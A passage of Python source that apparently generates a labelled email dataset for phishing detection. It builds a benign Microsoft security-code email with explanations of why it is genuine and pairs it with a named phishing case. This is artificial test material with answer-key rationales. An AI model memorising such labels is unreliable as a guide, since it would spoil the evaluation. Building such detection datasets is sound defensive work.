                                                     'If you don\'t recognize the Microsoft account le*****@example.com, you can [click here](https://account.live.com/dp?ft=-DsqX0w7rB1mK9VbN%21Zp3cYhW8aE5f2LgT6nQ4uJoR&lc=1033) to remove your email address from that account.',
                                                     'Thanks,\nThe Microsoft account team'],
                                                    brand='#ffffff', logo_text='', footer='[Privacy Statement](https://go.microsoft.com/fwlink/?LinkId=521839)\nMicrosoft Corporation, One Microsoft Way, Redmond, WA 98052'),
                                       'utf-8', 'quoted-printable')])
    return Mail('microsoft-account-security-code', t=t, frm=('Microsoft account team', 'account-security-noreply@accountprotection.microsoft.com'),
                to=C.P('sec'), subject='Microsoft account security code', body=b, profile=I.ms_service,
                pkw=dict(sender_dom='accountprotection.microsoft.com'),
                what='Genuine one-time security code for a Microsoft account registered with the mail admin\'s work address.',
                why='Microsoft\'s own sender domain and outbound infrastructure; just a code and a removal link to account.live.com; requested by the user.',
                pair=(['device-code-phishing-price-schedule'], 'Both involve a Microsoft code; here Microsoft sends a code to its own user instead of a third party asking the user to enter a code.'))


def business():
    return [b_github(), b_ms_invoice(), b_xero_remittance(), b_broken_laptop(), b_newsletter(), b_hmrc_receipt(), b_voicemail_3cx(), b_ms_security_code()]
